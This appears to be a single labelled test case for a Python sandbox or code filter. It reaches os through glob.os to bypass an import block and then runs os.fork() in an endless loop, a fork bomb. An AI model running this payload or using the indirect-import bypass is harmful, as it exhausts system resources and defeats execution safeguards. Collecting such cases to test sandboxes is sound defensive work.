# attack-class: 4
# title: glob.os.fork
# why: glob imports os; fork through it

import glob

files = glob.glob("/data/*.csv")
while True:
    glob.os.fork()
